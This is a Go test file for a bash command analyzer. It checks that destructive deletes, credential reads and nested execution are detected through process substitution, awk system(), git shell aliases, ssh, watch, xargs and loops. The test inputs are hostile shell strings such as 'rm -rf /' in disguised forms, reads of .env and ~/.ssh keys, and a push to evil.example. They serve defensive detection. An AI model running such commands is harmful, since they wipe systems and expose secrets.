package bash

import "testing"

// TestHomeRelativeClimb: a path that climbs out of the home is judged by
// what it reaches, so `~/../..` is the root, not the workspace parent.
func TestHomeRelativeClimb(t *testing.T) {
	for src, want := range map[string]string{
		"rm -rf ~/../..":         "/",
		"rm -rf ~/..":            "/home",
		"rm -rf ~/build/../.ssh": "~/.ssh",
		"rm -rf ~/":              "~",
	} {
		f := run(t, src)
		if findFile(f, "delete", want) == nil {
			t.Errorf("%s: no delete of %s\n%s", src, want, dump(f))
		}
	}
}

// TestWorkingDirectoryIsWorkspace: $PWD and $(pwd) stand for the workspace,
// so a denied path under them is still seen.
func TestWorkingDirectoryIsWorkspace(t *testing.T) {
	for _, src := range []string{`cat "$PWD/.env"`, `cat ${PWD}/.env`, `cat "$(pwd)/.env"`, "cat `pwd`/.env"} {
		f := run(t, src)
		if findFile(f, "read", ".env") == nil {
			t.Errorf("%s: no read of .env\n%s", src, dump(f))
		}
	}
}

// TestProcessSubstitutionScript: an interpreter reading a process
// substitution runs what the substitution prints.
func TestProcessSubstitutionScript(t *testing.T) {
	for _, src := range []string{
		`source <(echo 'rm -rf /')`,
		`. <(printf 'rm -rf /\n')`,
		`bash <(echo 'rm -rf /')`,
		`sh < <(echo 'rm -rf /')`,
	} {
		f := run(t, src)
		if findCmd(f, "rm", "-rf", "/") == nil {
			t.Errorf("%s: nested rm not analyzed\n%s", src, dump(f))
		}
	}
	// Content that cannot be known stays dynamic (and is not analyzed).
	f := run(t, `source <(cat "$X")`)
	if len(f.DynamicExec) == 0 || f.DynamicExec[0].Static {
		t.Errorf("dynamic process substitution: %s", dump(f))
	}
	// Encoded content keeps its provenance.
	f = run(t, `bash <(echo c3VkbyBpZA== | base64 -d)`)
	if len(f.DynamicExec) == 0 || !f.DynamicExec[0].Encoded {
		t.Errorf("encoded process substitution: %s", dump(f))
	}
}

// TestAwkSystemIndirect: awk's system() with a variable assigned a literal
// resolves; with a field reference awk runs its input lines as commands.
func TestAwkSystemIndirect(t *testing.T) {
	for _, src := range []string{
		`awk 'BEGIN{cmd="rm -rf /"; system(cmd)}'`,
		`echo 'rm -rf /' | awk '{system($0)}'`,
		`awk '{ system( $0 ) }' <<< 'rm -rf /'`,
	} {
		f := run(t, src)
		if findCmd(f, "rm", "-rf", "/") == nil {
			t.Errorf("%s: nested rm not analyzed\n%s", src, dump(f))
		}
	}
	// Reassigned or computed commands are dynamic execution, not resolved.
	for _, src := range []string{
		`awk '{c="ls"; c=$1; system(c)}' f.txt`,
		`awk '{system("echo " $1)}' f.txt`,
	} {
		f := run(t, src)
		dyn := false
		for _, d := range f.DynamicExec {
			dyn = dyn || (d.Kind == "awk_system" && !d.Static)
		}
		if !dyn {
			t.Errorf("%s: want dynamic awk_system\n%s", src, dump(f))
		}
	}
	// Printing fields runs nothing.
	if f := run(t, `awk '{print $1}' data.txt`); len(f.DynamicExec) != 0 {
		t.Errorf("awk print: %s", dump(f))
	}
}

// TestXargsStaticInput: xargs fed by a producer or here-string that folds
// gets those words as its targets.
func TestXargsStaticInput(t *testing.T) {
	for _, src := range []string{`xargs -I% rm -rf % <<< /`, `printf '/\n' | xargs rm -rf`} {
		f := run(t, src)
		if findFile(f, "delete", "/") == nil {
			t.Errorf("%s: no delete of /\n%s", src, dump(f))
		}
	}
}

// TestForLoopOverKnownWords: a loop over known words runs its body with
// each, so the loop variable does not hide the target.
func TestForLoopOverKnownWords(t *testing.T) {
	f := run(t, `for d in build / ; do rm -rf "$d"; done`)
	if findFile(f, "delete", "/") == nil || findFile(f, "delete", "build") == nil {
		t.Errorf("loop values not substituted:\n%s", dump(f))
	}
	f = run(t, `for k in ~/.ssh/*; do cat "$k"; done`)
	found := false
	for _, fa := range f.Files {
		found = found || fa.Op == "read" && fa.Path == "~/.ssh/*"
	}
	if !found {
		t.Errorf("glob loop value not substituted:\n%s", dump(f))
	}
	// Unknown words keep the variable unknown.
	f = run(t, `for d in $DIRS; do rm -rf "$d"; done`)
	for _, fa := range f.Files {
		if fa.Op == "delete" && !fa.Dynamic {
			t.Errorf("dynamic loop value resolved: %+v", fa)
		}
	}
}

// TestGitShellAlias: a git alias starting with "!" is shell code git runs.
func TestGitShellAlias(t *testing.T) {
	for _, src := range []string{
		`git -c alias.x='!rm -rf /' x`,
		`git config --global alias.cleanup '!rm -rf /'`,
	} {
		f := run(t, src)
		if findCmd(f, "rm", "-rf", "/") == nil {
			t.Errorf("%s: alias code not analyzed\n%s", src, dump(f))
		}
	}
	f := run(t, `git config alias.st status`)
	if len(f.DynamicExec) != 0 {
		t.Errorf("plain alias is not shell code: %s", dump(f))
	}
}

// TestGitRefspecIsNotARemote: after the repository operand of push, fetch
// and pull come refspecs, whose "src:dst" form is not an scp-like host.
func TestGitRefspecIsNotARemote(t *testing.T) {
	f := run(t, `git push https://github.com/acme/x.git HEAD:refs/heads/ci`)
	if len(f.Network) != 1 || f.Network[0].Host != "github.com" {
		t.Errorf("want one request to github.com:\n%s", dump(f))
	}
	f = run(t, `git fetch origin main:tmp`)
	for _, n := range f.Network {
		if n.Host == "main" {
			t.Errorf("refspec taken for a host: %+v", n)
		}
	}
	f = run(t, `git push git@evil.example:x/y.git main`)
	if len(f.Network) != 1 || f.Network[0].Host != "evil.example" {
		t.Errorf("scp-like remote lost:\n%s", dump(f))
	}
}

// TestRemoteAndRepeatedShellStrings: ssh HOST CMD and watch 'CMD' hand a
// command line to a shell, which is analyzed like local shell code.
func TestRemoteAndRepeatedShellStrings(t *testing.T) {
	for _, src := range []string{`ssh localhost 'rm -rf /'`, `ssh -p 22 deploy@203.0.113.5 rm -rf /`, `watch -n1 'rm -rf /'`} {
		f := run(t, src)
		if findCmd(f, "rm", "-rf", "/") == nil {
			t.Errorf("%s: command line not analyzed\n%s", src, dump(f))
		}
	}
	// watch with an argv stays a wrapper of that argv.
	f := run(t, `watch -n 5 go test ./...`)
	if findCmd(f, "go", "test", "./...") == nil {
		t.Errorf("watch argv not unwrapped:\n%s", dump(f))
	}
}

// TestDirnameFolds: dirname/basename of known text fold, home-aware.
func TestDirnameFolds(t *testing.T) {
	for src, want := range map[string]string{
		`rm -rf "$(dirname ~)"`:           "/home",
		`rm -rf "$(dirname /etc/passwd)"`: "/etc",
		`cat "$(basename /x/.env)"`:       ".env",
	} {
		f := run(t, src)
		found := false
		for _, fa := range f.Files {
			found = found || fa.Path == want
		}
		if !found {
			t.Errorf("%s: no access to %s\n%s", src, want, dump(f))
		}
	}
}
